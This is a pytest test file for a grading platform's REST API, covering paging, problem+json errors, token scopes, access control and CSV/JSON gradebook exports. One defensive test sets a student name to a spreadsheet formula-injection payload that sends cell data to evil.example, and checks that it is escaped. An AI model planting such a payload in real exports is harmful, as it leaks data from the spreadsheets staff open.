"""The REST API /api/v1: its document, paging, problem+json errors, and who may see and do what."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from openapi_spec_validator import validate
from sqlalchemy import select
from support.pages import log_in

from grader.accounts.models import ApiToken, Role
from grader.accounts.services import issue_token
from grader.assignments.deadlines import grant_extension
from grader.assignments.services import publish
from grader.courses.models import Course
from grader.extensions import db, utcnow
from grader.rest.registry import OPERATIONS, PREFIX
from grader.submissions.models import State, Submission

from .apidata import bearer, grade, new_user, upload


@pytest.fixture
def instructor(course):  # type: ignore[no-untyped-def]
    return new_user(course, Role.INSTRUCTOR, "Ines Instructor")


@pytest.fixture
def staff_token(instructor):  # type: ignore[no-untyped-def]
    return issue_token(instructor, "staff", ["read", "grade"])


def _problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    body: dict[str, Any] = response.get_json()
    assert body["status"] == status and body["detail"]
    return body


def test_the_openapi_document_validates_and_lists_every_route(client):
    response = client.get(f"{PREFIX}/openapi.json")
    assert response.status_code == 200
    document = response.get_json()
    validate(document)  # OpenAPI 3.1
    assert document["openapi"] == "3.1.0"
    documented = {(m.upper(), p) for p, ops in document["paths"].items() for m in ops}
    for operation in OPERATIONS:
        path = PREFIX + operation.rule.replace("<int:", "{").replace(">", "}")
        assert (operation.method, path) in documented
    upload_op = document["paths"][f"{PREFIX}/assignments/{{assignment_id}}/submissions"]["post"]
    assert upload_op["security"] == [{"bearerToken": ["submit"]}]
    assert {"413", "422", "429"} <= set(upload_op["responses"])
    assert "multipart/form-data" in upload_op["requestBody"]["content"]
    listing = document["paths"][f"{PREFIX}/courses"]["get"]
    per_page = next(p for p in listing["parameters"] if p["name"] == "per_page")
    assert per_page["schema"]["maximum"] == 100 and "Link" in listing["responses"]["200"]["headers"]
    problem = document["components"]["schemas"]["Problem"]
    assert {"title", "status", "detail"} <= set(problem["required"])


def test_a_students_courses_and_assignments(client, course, student, student_token, paraboloid):
    hidden = publish(course, "linear")
    hidden.hidden = True
    paraboloid.deadline = utcnow() + timedelta(days=2)
    db.session.commit()
    instructor = new_user(course, Role.INSTRUCTOR)
    extended = utcnow() + timedelta(days=5)
    grant_extension(paraboloid, student, extended, "ill", instructor)

    courses = client.get(f"{PREFIX}/courses", headers=bearer(student_token)).get_json()
    assert courses["total"] == 1 and courses["items"][0]["role"] == "student"
    assert courses["items"][0]["code"] == course.code
    one = client.get(courses["items"][0]["url"], headers=bearer(student_token)).get_json()
    assert one["id"] == course.id

    listed = client.get(one["assignments_url"], headers=bearer(student_token)).get_json()
    assert [a["slug"] for a in listed["items"]] == ["paraboloid"]  # the hidden one is not listed
    detail = client.get(listed["items"][0]["url"], headers=bearer(student_token)).get_json()
    assert detail["deadline"] == extended.isoformat() + "Z" and detail["deadline_extended"] is True
    assert detail["course_deadline"].startswith(paraboloid.deadline.isoformat(timespec="seconds"))
    assert detail["daily_limit"] == 3 and detail["submissions_left_today"] == 3
    assert detail["metric"] == "mse" and detail["metric_label"] == "MSE" and detail["max_score"] == 100
    assert detail["output"]["kind"] == "value" and "[N, 1]" in detail["output"]["text"]
    assert detail["version"] == 1 and detail["lower_is_better"] is True
    upload(client, paraboloid.id, student_token)
    again = client.get(listed["items"][0]["url"], headers=bearer(student_token)).get_json()
    assert again["submissions_today"] == 1 and again["submissions_left_today"] == 2

    _problem(client.get(f"{PREFIX}/assignments/{hidden.id}", headers=bearer(student_token)), 404)
    staff = issue_token(instructor, "t", ["read"])
    staff_list = client.get(one["assignments_url"], headers=bearer(staff)).get_json()
    assert {a["slug"] for a in staff_list["items"]} == {"paraboloid", "linear"}


def test_submissions_results_and_curves(client, course, student, student_token, paraboloid, staff_token):
    first = upload(client, paraboloid.id, student_token)
    assert first["state"] == "queued" and first["result"] is None and first["final"] is False
    body = _problem(
        client.get(f"{PREFIX}/submissions/{first['id']}/result", headers=bearer(student_token)), 409
    )
    assert "poll" in body["detail"]
    grade(first["id"])

    status = client.get(first["url"], headers=bearer(student_token)).get_json()
    assert status["state"] == "scored" and status["final"] and status["score"] == 87.5
    assert status["result"]["curves"]["loss"] == {
        "steps": [0, 10, 20],
        "values": [1.0, 0.5, None],
        "points_total": 3,
    }
    result = client.get(status["result"]["url"], headers=bearer(student_token)).get_json()
    assert (
        result["verdict"] == "scored" and result["metric_label"] == "MSE" and result["metric_value"] == 0.0123
    )
    assert [d["severity"] for d in result["diagnoses"]] == ["error", "hint"]
    assert result["diagnoses"][0]["fix"] == "divide it by 10" and "curves" not in result
    curves = client.get(result["curves_url"], headers=bearer(student_token)).get_json()
    assert list(curves["curves"]) == ["loss", "lr"]

    other = new_user(course)
    other_token = issue_token(other, "t", ["read", "submit"])
    upload(client, paraboloid.id, other_token)
    mine = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/submissions", headers=bearer(student_token)
    ).get_json()
    assert [s["id"] for s in mine["items"]] == [first["id"]] and mine["items"][0]["student"][
        "id"
    ] == student.id
    _problem(
        client.get(
            f"{PREFIX}/assignments/{paraboloid.id}/submissions?student={other.id}",
            headers=bearer(student_token),
        ),
        403,
    )
    everyone = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/submissions", headers=bearer(staff_token)
    ).get_json()
    assert everyone["total"] == 2
    theirs = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/submissions?student={other.id}&state=queued",
        headers=bearer(staff_token),
    ).get_json()
    assert theirs["total"] == 1 and theirs["items"][0]["student"]["id"] == other.id


def test_paging_links_and_totals(client, course, paraboloid, student_token):
    for index in range(3):
        upload(client, paraboloid.id, student_token, f"x = {index}\n".encode())
    url = f"{PREFIX}/assignments/{paraboloid.id}/submissions"
    response = client.get(f"{url}?per_page=2", headers=bearer(student_token))
    body = response.get_json()
    assert (body["total"], body["pages"], body["page"], len(body["items"])) == (3, 2, 1, 2)
    links = response.headers["Link"]
    assert 'page=2>; rel="next"' in links and 'rel="prev"' not in links and "per_page=2" in links
    second = client.get(f"{url}?per_page=2&page=2", headers=bearer(student_token))
    assert len(second.get_json()["items"]) == 1 and 'page=1>; rel="prev"' in second.headers["Link"]
    beyond = client.get(f"{url}?per_page=2&page=9", headers=bearer(student_token)).get_json()
    assert beyond["items"] == [] and beyond["total"] == 3

    body = _problem(client.get(f"{url}?per_page=500", headers=bearer(student_token)), 400)
    assert body["errors"][0]["parameter"] == "per_page" and "100" in body["detail"]
    body = _problem(client.get(f"{url}?pgae=2", headers=bearer(student_token)), 400)
    assert "'pgae'" in body["detail"] and "leave it out" in body["detail"]
    body = _problem(client.get(f"{url}?page=two", headers=bearer(student_token)), 400)
    assert "'page'" in body["detail"] and "'two'" in body["detail"]
    _problem(client.get(f"{url}?page=1&page=2", headers=bearer(student_token)), 400)


def test_every_error_is_problem_json(client, student_token, monkeypatch):
    body = _problem(client.get(f"{PREFIX}/nothing-here", headers=bearer(student_token)), 404)
    assert "openapi.json" in body["detail"]
    response = client.delete(f"{PREFIX}/courses", headers=bearer(student_token))
    body = _problem(response, 405)
    assert "GET" in response.headers["Allow"] and "use GET" in body["detail"]
    _problem(client.get(f"{PREFIX}/courses/99999999999", headers=bearer(student_token)), 404)
    response = client.get(f"{PREFIX}/courses")
    assert "Bearer" in _problem(response, 401)["detail"] and response.headers["WWW-Authenticate"].startswith(
        "Bearer"
    )

    def broken(*args: Any) -> Any:
        raise RuntimeError("a bug")

    monkeypatch.setattr("grader.rest.courses.courses_of", broken)
    body = _problem(client.get(f"{PREFIX}/courses", headers=bearer(student_token)), 500)
    assert "a bug" not in body["detail"] and "Try again" in body["detail"]


def test_scopes_and_who_may_do_what(client, course, student, paraboloid, instructor):
    read_only = issue_token(student, "ro", ["read"])
    submitter = issue_token(student, "rw", ["read", "submit"])
    body = _problem(
        client.post(f"{PREFIX}/assignments/{paraboloid.id}/submissions", headers=bearer(read_only)), 403
    )
    assert "'submit' scope" in body["detail"]
    mine = upload(client, paraboloid.id, submitter)
    grade(mine["id"])

    # Another student of the same course cannot read it (404: not even that it exists).
    other = issue_token(new_user(course), "t", ["read"])
    for suffix in ("", "/result", "/curves", "/results.json"):
        _problem(client.get(f"{mine['url']}{suffix}", headers=bearer(other)), 404)

    # A submit token cannot regrade, a student with a grade token is not staff; a grade token of staff can.
    regrade = f"{mine['url']}/regrade"
    assert "'grade' scope" in _problem(client.post(regrade, headers=bearer(submitter)), 403)["detail"]
    student_grader = issue_token(student, "g", ["grade"])
    assert "instructors" in _problem(client.post(regrade, headers=bearer(student_grader)), 403)["detail"]
    staff = issue_token(instructor, "g", ["read", "grade"])
    response = client.post(regrade, headers=bearer(staff))
    assert response.status_code == 202 and response.get_json()["state"] == "queued"
    assert response.get_json()["result"] is None
    _problem(client.post(regrade, headers=bearer(staff)), 409)  # still being graded

    # An instructor of another course touches nothing of this one.
    elsewhere = Course(code="OTHER-9", title="Elsewhere")
    db.session.add(elsewhere)
    db.session.commit()
    stranger = issue_token(new_user(elsewhere, Role.INSTRUCTOR), "s", ["read", "grade", "admin"])
    for url in (mine["url"], f"{PREFIX}/assignments/{paraboloid.id}", f"{PREFIX}/assignments/{paraboloid.id}/scoreboard",
                f"{PREFIX}/assignments/{paraboloid.id}/grades", f"{PREFIX}/courses/{course.id}",
                f"{PREFIX}/courses/{course.id}/webhooks"):  # fmt: skip
        _problem(client.get(url, headers=bearer(stranger)), 404)
    _problem(client.post(regrade, headers=bearer(stranger)), 404)
    _problem(client.post(f"{PREFIX}/courses/{course.id}/webhooks", json={"url": "https://x.example"},
                         headers=bearer(stranger)), 404)  # fmt: skip
    assert db.session.get(Submission, mine["id"]).state is State.QUEUED


def _csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    import csv
    import io

    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_scoreboard_grades_and_lms_gradebooks(client, course, paraboloid, instructor, staff_token):
    students = [new_user(course, name=name) for name in ("Ada Lovelace", "Bo Chen", "Cy Diaz")]
    tokens = [issue_token(s, "t", ["read", "submit"]) for s in students]
    graded = [upload(client, paraboloid.id, tokens[i]) for i in (0, 1)]
    grade(graded[0]["id"], score=91.25)
    grade(graded[1]["id"], score=40.0, passed=False)
    second = upload(client, paraboloid.id, tokens[0])
    grade(second["id"], score=60.0)

    board = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/scoreboard?sort=score&order=desc&per_page=2",
        headers=bearer(staff_token),
    )
    body = board.get_json()
    assert (
        body["total"] == 3
        and body["submitted"] == 2
        and body["pages"] == 2
        and 'rel="next"' in board.headers["Link"]
    )
    assert [r["score"] for r in body["items"]] == [91.25, 40.0]
    assert body["items"][0]["submission_id"] == graded[0]["id"] and body["items"][0]["attempts"] == 2
    grades = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/grades?per_page=100", headers=bearer(staff_token)
    ).get_json()
    by_name = {g["student"]["name"]: g["grade"] for g in grades["items"]}
    assert by_name == {"Ada Lovelace": 91.25, "Bo Chen": 40.0, "Cy Diaz": None}

    canvas = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format=canvas", headers=bearer(staff_token)
    )
    assert canvas.status_code == 200 and canvas.mimetype == "text/csv"
    assert "attachment" in canvas.headers["Content-Disposition"]
    lines = _csv_rows(canvas)
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", paraboloid.title]
    assert lines[1] == ["    Points Possible", "", "", "", "", "100"]
    assert sorted(lines[2:]) == sorted(
        [
            ["Ada Lovelace", "", "", students[0].email, "", "91.25"],
            ["Bo Chen", "", "", students[1].email, "", "40"],
        ]
    )
    with_id = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format=canvas&canvas_assignment_id=4242",
        headers=bearer(staff_token),
    )
    assert _csv_rows(with_id)[0][-1] == f"{paraboloid.title} (4242)"
    moodle = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format=moodle", headers=bearer(staff_token)
    )
    rows = _csv_rows(moodle)
    assert rows[0] == ["Email address", "Full name", paraboloid.title]
    assert sorted(rows[1:]) == sorted(
        [[students[0].email, "Ada Lovelace", "91.25"], [students[1].email, "Bo Chen", "40"]]
    )
    body = _problem(
        client.get(f"{PREFIX}/assignments/{paraboloid.id}/grades.csv", headers=bearer(staff_token)), 400
    )
    assert body["errors"][0]["parameter"] == "format"

    student_token = tokens[0]
    _problem(
        client.get(f"{PREFIX}/assignments/{paraboloid.id}/scoreboard", headers=bearer(student_token)), 403
    )
    _problem(
        client.get(
            f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format=moodle", headers=bearer(student_token)
        ),
        403,
    )


def test_gradebooks_leave_out_lti_placeholder_emails(client, course, paraboloid, instructor, staff_token):
    """An LTI launch without an email makes the user lti-...@lti.invalid: no LMS import can match that
    row (Moodle stops on it), so both CSVs leave it out and X-Grader-Left-Out counts it."""
    real = new_user(course, name="Ada Real")
    placeholder = new_user(course, name="Lti Learner")
    placeholder.email = "lti-1-0123abcd@lti.invalid"
    idle = new_user(course, name="Lti Idle")  # nothing graded: left out anyway, not counted
    idle.email = "lti-1-4567cdef@LTI.INVALID"
    db.session.commit()
    for user, score in ((real, 70.0), (placeholder, 90.0)):
        grade(upload(client, paraboloid.id, issue_token(user, "t", ["read", "submit"]))["id"], score=score)

    for fmt in ("canvas", "moodle"):
        csv = client.get(
            f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format={fmt}", headers=bearer(staff_token)
        )
        assert csv.status_code == 200 and csv.headers["X-Grader-Left-Out"] == "1"
        text = csv.get_data(as_text=True)
        assert real.email in text and "70" in text
        assert "invalid" not in text.lower() and "Lti" not in text
    # The JSON grades still list everyone: only the import files drop what an LMS cannot match.
    grades = client.get(
        f"{PREFIX}/assignments/{paraboloid.id}/grades", headers=bearer(staff_token)
    ).get_json()
    assert {g["student"]["name"]: g["grade"] for g in grades["items"]} == {
        "Ada Real": 70.0, "Lti Learner": 90.0, "Lti Idle": None,
    }  # fmt: skip
    document = client.get(f"{PREFIX}/openapi.json").get_json()
    csv_op = document["paths"][f"{PREFIX}/assignments/{{assignment_id}}/grades.csv"]["get"]
    assert "X-Grader-Left-Out" in csv_op["responses"]["200"]["headers"]

    log_in(client, instructor)
    page = client.get(f"/assignments/{paraboloid.id}/gradebook.csv?format=moodle")
    assert page.status_code == 200 and page.headers["X-Grader-Left-Out"] == "1"
    assert "invalid" not in page.get_data(as_text=True)


def test_exports_never_hand_a_spreadsheet_a_formula(client, course, paraboloid, instructor, staff_token):
    """A display name such as =HYPERLINK(...) would run as a formula when staff open the CSV."""
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
    student = new_user(course, name=formula)
    grade(upload(client, paraboloid.id, issue_token(student, "t", ["read", "submit"]))["id"], score=70.0)

    def cells(response) -> list[str]:  # type: ignore[no-untyped-def]
        assert response.status_code == 200
        return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]

    for fmt in ("canvas", "moodle"):
        got = cells(
            client.get(
                f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format={fmt}", headers=bearer(staff_token)
            )
        )
        assert "'" + formula in got and formula not in got and "70" in got
    log_in(client, instructor)
    got = cells(client.get(f"/assignments/{paraboloid.id}/scoreboard.csv"))
    assert "'" + formula in got and formula not in got and "70.0" in got
    assert not [cell for cell in got if cell[:1] in ("=", "+", "-", "@")]


def test_a_spreadsheet_cell_keeps_numbers_as_numbers():
    from grader.spreadsheet import csv_text, safe_cell

    assert safe_cell(-0.5) == -0.5 and safe_cell(None) == "" and safe_cell("Ada") == "Ada"
    assert [safe_cell(t) for t in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    # Text is always quoted (a ";" inside cannot split it where ";" separates), numbers never.
    assert csv_text([["=1+1", -2.5, None, "Ada;=1+1"]]) == '"\'=1+1",-2.5,"","Ada;=1+1"\r\n'


def test_gradescope_results_json(client, course, paraboloid, student_token, staff_token):
    mine = upload(client, paraboloid.id, student_token)
    _problem(client.get(f"{mine['url']}/results.json", headers=bearer(staff_token)), 409)
    grade(mine["id"], score=87.5, seed=123)
    _problem(client.get(f"{mine['url']}/results.json", headers=bearer(student_token)), 403)  # staff only
    body = client.get(f"{mine['url']}/results.json", headers=bearer(staff_token)).get_json()
    assert set(body) == {"score", "execution_time", "output", "output_format", "visibility", "stdout_visibility",
                         "extra_data", "tests", "leaderboard"}  # fmt: skip
    assert body["score"] == 87.5 and body["execution_time"] == 12.5 and body["output_format"] == "text"
    assert body["visibility"] == "visible" and body["stdout_visibility"] == "hidden"
    scored, *diagnoses = body["tests"]
    assert scored["score"] == 87.5 and scored["max_score"] == 100.0 and scored["status"] == "passed"
    assert {"name", "score", "max_score", "status", "output", "visibility"} <= set(scored)
    assert [t["max_score"] for t in diagnoses] == [0.0, 0.0] and "divide it by 10" in diagnoses[0]["output"]
    assert diagnoses[0]["status"] == "failed" and diagnoses[1]["status"] == "passed"  # an error; a hint
    assert body["leaderboard"] == [
        {"name": "MSE", "value": 0.0123, "order": "asc"}, {"name": "Score", "value": 87.5, "order": "desc"},
    ]  # fmt: skip
    extra = body["extra_data"]
    assert extra["seed_used"] == 123 and extra["seeds"] and extra["submission_id"] == mine["id"]


def test_the_pages_offer_the_exports(client, course, paraboloid, student, student_token, instructor):
    mine = upload(client, paraboloid.id, student_token)
    grade(mine["id"], score=75.0)
    csrf = log_in(client, instructor)
    board = client.get(f"/assignments/{paraboloid.id}/scoreboard").get_data(as_text=True)
    for fmt in ("canvas", "moodle"):
        link = f"/assignments/{paraboloid.id}/gradebook.csv?format={fmt}"
        assert link in board
        download = client.get(link)
        assert download.status_code == 200 and download.mimetype == "text/csv"
        assert f"{student.email}" in download.get_data(as_text=True)
    assert client.get(f"/assignments/{paraboloid.id}/gradebook.csv").status_code == 400
    page = client.get(f"/submissions/{mine['id']}/result").get_data(as_text=True)
    assert f"/submissions/{mine['id']}/results.json" in page
    results = client.get(f"/submissions/{mine['id']}/results.json")
    assert results.status_code == 200 and "attachment" in results.headers["Content-Disposition"]
    assert results.get_json()["score"] == 75.0 and results.get_json()["tests"][0]["max_score"] == 100.0

    client.post("/logout", data={"csrf_token": csrf})
    log_in(client, student)
    assert client.get(f"/submissions/{mine['id']}/results.json").status_code == 403
    assert client.get(f"/assignments/{paraboloid.id}/gradebook.csv?format=canvas").status_code == 403
    assert "results.json" not in client.get(f"/submissions/{mine['id']}/result").get_data(as_text=True)


def test_a_tokens_last_use_is_kept_to_the_minute_without_a_write_per_request(
    client, course, student, student_token
):
    """A script polling every second would otherwise write and commit its token's row on each request."""
    token = db.session.scalars(select(ApiToken).where(ApiToken.user_id == student.id)).one()
    assert token.last_used_at is None
    assert client.get(f"{PREFIX}/courses", headers=bearer(student_token)).status_code == 200
    db.session.refresh(token)
    first = token.last_used_at
    assert first is not None
    assert client.get(f"{PREFIX}/courses", headers=bearer(student_token)).status_code == 200
    db.session.refresh(token)
    assert token.last_used_at == first  # within the minute: not written again
    token.last_used_at = first - timedelta(minutes=2)
    db.session.commit()
    assert client.get(f"{PREFIX}/courses", headers=bearer(student_token)).status_code == 200
    db.session.refresh(token)
    assert token.last_used_at > first
